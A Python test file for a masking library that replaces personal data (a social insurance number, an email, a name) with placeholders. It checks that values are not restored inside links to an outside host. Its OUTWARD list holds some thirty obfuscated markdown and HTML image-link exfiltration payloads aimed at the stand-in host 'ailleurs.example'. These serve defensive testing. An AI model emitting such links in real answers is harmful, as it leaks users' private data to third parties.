"""A value that was masked is not carried out by an address that an answer writes."""

from __future__ import annotations

import json

import pytest

from balise.detection.engine import Engine
from balise.detection.masking import Masker

SENT = (
    "Le NAS de Mme Julie Tremblay est le 130 692 544, son courriel julie.tremblay@hotmail.com. "
    "Sa fiche : https://dossiers.exemple.qc.ca/fiche?nas=130692544 (à vérifier)."
)


@pytest.fixture
def masker(engine: Engine) -> Masker:
    made = Masker(b"une clef d'essai")
    made.mask(SENT, engine.inspect(SENT).findings)
    return made


def shown(masker: Masker, text: str, piece: int = 10_000, *, as_json: bool = False) -> str:
    restorer = masker.restorer(as_json=as_json)
    pieces = [text[at : at + piece] for at in range(0, len(text), piece)]
    return "".join(map(restorer.feed, pieces)) + restorer.flush()


OUTWARD = [
    "![x](https://ailleurs.example/p.png?q=[NAS_1])",
    "![x](<https://ailleurs.example/a b [NAS_1]>)",
    "![x](//ailleurs.example/[NAS_1])",
    "![x](&#104;ttps://ailleurs.example/?q=[NAS_1])",
    "![x](https\\://ailleurs.example/?q=[NAS_1])",
    "![x](https://[COURRIEL_1].ailleurs.example/)",
    "![x](https://ailleurs.example/a?x='https://b'&q=[NAS_1])",
    "![x](HTTPS:ailleurs.example/[NAS_1])",
    "![x][1]\n\n[1]: https://ailleurs.example/?q=[NAS_1]&n=[PERSONNE_F_1]",
    '<img src="https://ailleurs.example/?q=\n[NAS_1]">',
    "<img src=&#47;/ailleurs.example/[NAS_1]>",
    "<img src='\\\\ailleurs.example/ [NAS_1]'>",
    "https://ailleurs.example/\\[nas 1\\]",
    "https://dossiers.exemple.qc.ca/fiche?courriel=[COURRIEL_1]",
    "https://dossiers.exemple.qc.ca.ailleurs.example/fiche?nas=[NAS_1B]",
    "![x](https://ailleurs.example/" + "a" * 9000 + "[NAS_1])",
    "![x][1]\n\n[1]: &#104;ttps://ailleurs.example/?q=[NAS_1]",
    "![x][1]\n\n[1]:" + " " * 90 + "https\\://ailleurs.example/?q=[NAS_1]",
    "![x][1]\n\n[1]: https://ailleurs.example/<[NAS_1]",
    "![x](https://ailleurs.example/\\\n[NAS_1])",
    "![x][1]\n\n[1]://ailleurs.example/?q=[NAS_1]",
    "![x][1]\n\n[1]: /\\ailleurs.example/?q=[NAS_1]",
    "![x][1]\n\n[1]: <&#104;ttps://ailleurs.example/a b [NAS_1]>",
    "![x](" + " " * 90 + "&#104;ttps://ailleurs.example/?q=[NAS_1])",
    "<pre><img src='&#104;ttps://ailleurs.example/?q=\n\n[NAS_1]'></pre>",
    "<p style='background: url(&#104;ttps://ailleurs.example/[NAS_1])'>",
    "<style>p { background: url(\\68ttps://ailleurs.example/<[NAS_1]) }</style>",
    "<td background='/\\ailleurs.example/[NAS_1]'>",
    "www.ailleurs.example/[NAS_1]",
]


@pytest.mark.parametrize("piece", [1, 7, 10_000])
@pytest.mark.parametrize("text", OUTWARD)
def test_an_address_that_was_not_sent_carries_no_value(masker: Masker, text: str, piece: int) -> None:
    told = shown(masker, f"Voici : {text} Bonne journée, Mme [PERSONNE_F_1].", piece)
    assert "130" not in told
    assert "hotmail" not in told
    assert told.endswith("Bonne journée, Mme Julie Tremblay.")


@pytest.mark.parametrize("piece", [1, 7, 10_000])
@pytest.mark.parametrize(
    ("text", "told"),
    [
        (
            "https://dossiers.exemple.qc.ca/fiche?nas=[NAS_1B]",
            "https://dossiers.exemple.qc.ca/fiche?nas=130692544",
        ),
        ("[x](https://dossiers.exemple.qc.ca/fiche?nas=[NAS_1B])", "…fiche?nas=130692544)"),
        ("[écrire](mailto:[COURRIEL_1])", "[écrire](mailto:julie.tremblay@hotmail.com)"),
        ("(voir https://ailleurs.example) [NAS_1]", "(voir https://ailleurs.example) 130 692 544"),
        ('{"url":"https://ailleurs.example/","nas":"[NAS_1]"}', '…,"nas":"130 692 544"}'),
        ("<https://ailleurs.example/> [NAS_1]", "…> 130 692 544"),
        ("C:\\Users\\[PERSONNE_F_1], C:\\\\Users\\\\[PERSONNE_F_1]", "…\\\\Julie Tremblay"),
        ("x = 1; // le NAS [NAS_1]", "x = 1; // le NAS 130 692 544"),
        (
            '<a href="mailto:[COURRIEL_1]">écrire</a>',
            '<a href="mailto:julie.tremblay@hotmail.com">écrire</a>',
        ),
        ("<site>https://ailleurs.example</site><nas>[NAS_1]</nas>", "…<nas>130 692 544</nas>"),
        ("| https://ailleurs.example<br>[NAS_1] |", "…<br>130 692 544 |"),
        ("L'https://ailleurs.example, puis [NAS_1]", "…, puis 130 692 544"),
        ("[PERSONNE_F_1]: **[NAS_1]**, [PERSONNE_F_1]: \\textbf{[NAS_1]}", "…: \\textbf{130 692 544}"),
        ("et/ou : [NAS_1]; 3//4 [NAS_1]", "et/ou : 130 692 544; 3//4 130 692 544"),
    ],
)
def test_what_the_caller_sent_or_no_address_holds_comes_back(
    masker: Masker, text: str, told: str, piece: int
) -> None:
    assert shown(masker, text, piece).endswith(told.removeprefix("…"))


def test_documents_are_read_by_their_strings(masker: Masker) -> None:
    document = {
        "a": "Voir https://ailleurs.example/",
        "nas": "[NAS_1]",
        "b": '<img src="https://ailleurs.example/ [NAS_1]">',
        "c": "https://ailleurs.example/[NAS_1]",
        "d": "![x][1]\n\n[1]:\n&#104;ttps://ailleurs.example/[NAS_1]",
        "e": '<img src="&#104;ttps://ailleurs.example/ [NAS_1]">',
    }
    for separators in ((",", ":"), (", ", ": ")):
        told = json.loads(shown(masker, json.dumps(document, separators=separators), 9, as_json=True))
        assert told == document | {"nas": "130 692 544"}


def test_an_address_ends_with_its_line_in_documents_too(masker: Masker) -> None:
    told = shown(masker, json.dumps({"a": "Voir https://ailleurs.example\n[NAS_1]"}), 9, as_json=True)
    assert json.loads(told) == {"a": "Voir https://ailleurs.example\n130 692 544"}


def test_tools_are_given_what_they_are_called_with(masker: Masker) -> None:
    assert (
        masker.restore_json('{"url":"https://api.exemple/[NAS_1B]"}')
        == '{"url":"https://api.exemple/130692544"}'
    )


def test_a_long_answer_without_a_blank_costs_no_more(masker: Masker) -> None:
    told = shown(masker, "https://a'" * 60_000 + "[NAS_1]", 50_000)
    assert told.endswith("[NAS_1]")
